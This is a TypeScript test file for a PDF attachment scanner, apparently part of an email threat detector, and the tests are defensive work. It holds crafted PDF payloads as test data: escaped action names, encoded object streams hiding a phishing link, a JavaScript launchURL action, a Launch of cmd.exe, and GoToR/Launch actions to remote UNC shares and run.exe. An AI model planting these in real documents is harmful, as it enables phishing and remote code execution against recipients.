// PDFs built against the byte scan and the text reader: files crafted to cost time, and links
// and actions written in ways a PDF reader accepts but a plain look at the bytes missed.
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { newBudget } from '../../src/attachments/bounds.ts';
import { scanPdf } from '../../src/attachments/pdf.ts';
import { attachmentsDetector } from '../../src/detectors/attachments.ts';
import { attachment, byCode, facts, run } from './helpers.ts';

const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

/** A one-page PDF with a correct cross-reference table: `catalog` and `page` add entries to
 *  those dictionaries (`/OpenAction …`, `/Annots […]`), `objects` are numbered from 4 on. */
function pdfFile({ catalog = '', page = '', trailer = '' }, objects: string[] = []): Uint8Array {
  const all = [`<< /Type /Catalog /Pages 2 0 R ${catalog}>>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page}>>`, ...objects];
  let body = '%PDF-1.7\n';
  const offsets = all.map((object, i) => {
    const offset = body.length;
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = body.length;
  body += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return latin1(body);
}

/** A page with one link annotation whose action is `action`. */
const linkPdf = (action: string) => pdfFile({ page: '/Annots [4 0 R]' }, [`<< /Type /Annot /Subtype /Link /Rect [40 690 400 720] /A ${action} >>`]);
const scan = (bytes: Uint8Array) => scanPdf(bytes, newBudget());

/** ASCII85 as PDF writers emit it: `z` for four zero bytes, lines of 64 characters, `~>` at the end. */
function ascii85(bytes: Buffer): string {
  let out = '';
  for (let i = 0; i < bytes.length; i += 4) {
    const group = Buffer.concat([bytes.subarray(i, i + 4), Buffer.alloc(4)]).readUInt32BE(0);
    const size = Math.min(4, bytes.length - i);
    if (group === 0 && size === 4) {
      out += 'z';
      continue;
    }
    const digits = [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(group / 85 ** power) % 85)));
    out += digits.slice(0, size + 1).join('');
  }
  return `${out.replace(/.{64}/g, '$&\n')}~>`;
}

/** A page whose link annotation (object 4) sits in an object stream (object 5), its data encoded
 *  by `encode` and the stream marked with `filter`. */
function objectStreamPdf(filter: string, encode: (data: Buffer) => string): Uint8Array {
  const annotation = '<< /Type /Annot /Subtype /Link /Rect [40 690 400 720] /A << /S /URI /URI (https://secure-login-portal.example/inv) >> >>';
  const data = encode(Buffer.from(`4 0 ${annotation}`, 'latin1'));
  return pdfFile({ page: '/Annots [4 0 R]' }, [`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n${data}\nendstream`]);
}

describe('PDF scan cost', () => {
  it('reads 3 MB built to be slow in well under a second', () => {
    // Each took seconds to minutes at 3 MB when a pattern went back over the text: a lazy match
    // from every /FlateDecode to a `stream` that never comes (61 s), a /URI string read again
    // to the end at every later /URI (minutes), a decoder started for every tiny stream.
    const repeated = {
      'a filter name and no stream': '/FlateDecode ',
      'link strings never closed': '/URI (',
      'file names never closed': '/F (',
      'tiny compressed streams': '1 0 obj <</Filter /FlateDecode>> stream\nx\nendstream endobj\n',
      'inline image starts': ' BI ',
      'open actions': '/OpenAction ',
    };
    for (const [what, unit] of Object.entries(repeated)) {
      const bytes = latin1(`%PDF-1.7\n${unit.repeat(Math.ceil(3_000_000 / unit.length))}\n%%EOF\n`);
      const started = performance.now();
      scanPdf(bytes, newBudget());
      const millis = performance.now() - started;
      // About 50 ms here; the bound leaves room for a slow, busy machine.
      assert.ok(millis < 2_000, `${what}: ${Math.round(millis)} ms`);
    }
  });
});

describe('PDF names as a reader reads them', () => {
  it('reads names spelled with #xx escapes (cases 28, 29)', () => {
    assert.deepEqual(scan(linkPdf('<< /S /U#52I /U#52I (https://secure-login-portal.example/inv) >>')).uris, ['https://secure-login-portal.example/inv']);
    const script = scan(linkPdf('<< /S /J#61vaScript /J#53 (app.launchURL\\("https://secure-login-portal.example/inv"\\);) >>'));
    assert.deepEqual(script.active, ['JavaScript', 'JS']);
    const opening = pdfFile({ catalog: '/O#70enAction << /S /Launc#68 /F (cmd.exe) >>' });
    assert.deepEqual(scan(opening).active, ['Launch', 'OpenAction']);
  });

  it('leaves a # in a link as it is', () => {
    assert.deepEqual(scan(linkPdf('<< /S /URI /URI (https://help.example/faq#41) >>')).uris, ['https://help.example/faq#41']);
  });
});

describe('PDF stream filters', () => {
  const hex = (data: Buffer) => `${data.toString('hex').replace(/.{60}/g, '$& ')}>`;
  const flate = (data: Buffer) => deflateSync(data).toString('latin1');
  const link = ['https://secure-login-portal.example/inv'];

  it('reads an object stream in ASCII85 over Flate (case 30)', () => {
    assert.deepEqual(scan(objectStreamPdf('[/ASCII85Decode /FlateDecode]', (data) => ascii85(deflateSync(data)))).uris, link);
    assert.deepEqual(scan(objectStreamPdf('/A85', (data) => ascii85(Buffer.concat([data, Buffer.alloc(8)])))).uris, link);
  });

  it('reads an object stream in ASCIIHex, alone or over Flate (case 30b)', () => {
    assert.deepEqual(scan(objectStreamPdf('/ASCIIHexDecode', hex)).uris, link);
    assert.deepEqual(scan(objectStreamPdf('[/ASCIIHe#78Decode /Fl]', (data) => hex(deflateSync(data)))).uris, link);
    // An odd last digit stands for its high half: the stream still ends where it should.
    assert.deepEqual(scan(objectStreamPdf('/AHx', (data) => `${data.toString('hex')}2>`)).uris, link);
  });

  it('leaves pictures encoded, and counts a stream that cannot be decoded', () => {
    assert.deepEqual(scan(objectStreamPdf('[/FlateDecode /DCTDecode]', flate)).uris, []);
    assert.equal(scan(objectStreamPdf('/FlateDecode', (data) => data.toString('latin1'))).skippedStreams, 1);
  });
});

describe('PDF actions that open a file on another machine', () => {
  it('says a GoToR to a UNC path is active, with the path (case 33)', async () => {
    const unc = linkPdf('<< /S /GoToR /F (\\\\\\\\185.10.10.10\\\\share\\\\x.pdf) /D [0 /Fit] >>');
    assert.deepEqual(scan(unc).active, ['GoToR: \\\\185.10.10.10\\share\\x.pdf']);
    const findings = await run(attachmentsDetector, facts({ subject: 'Invoice', text: 'See attached.', attachments: [attachment('invoice.pdf', unc)] }));
    assert.match(byCode(findings, 'ATTACH_PDF_ACTIVE').message.en, /\(GoToR: \\\\185\.10\.10\.10\\share\\x\.pdf\)/);
  });

  it('reads the file in a file specification, as a file: URL or in UTF-16', () => {
    assert.deepEqual(scan(linkPdf('<< /S /Launch /Win << /F (file://185.10.10.10/share/run.exe) >> >>')).active, ['Launch: file://185.10.10.10/share/run.exe']);
    const utf16 = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('//185.10.10.10/share/x.pdf', 'utf16le').swap16()]).toString('hex');
    assert.deepEqual(scan(linkPdf(`<< /S /GoToE /F << /Type /Filespec /F (x.pdf) /UF <${utf16}> >> >>`)).active, ['GoToE: //185.10.10.10/share/x.pdf']);
  });

  it('leaves a link to another PDF beside it alone', () => {
    assert.deepEqual(scan(linkPdf('<< /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>')).active, []);
  });
});
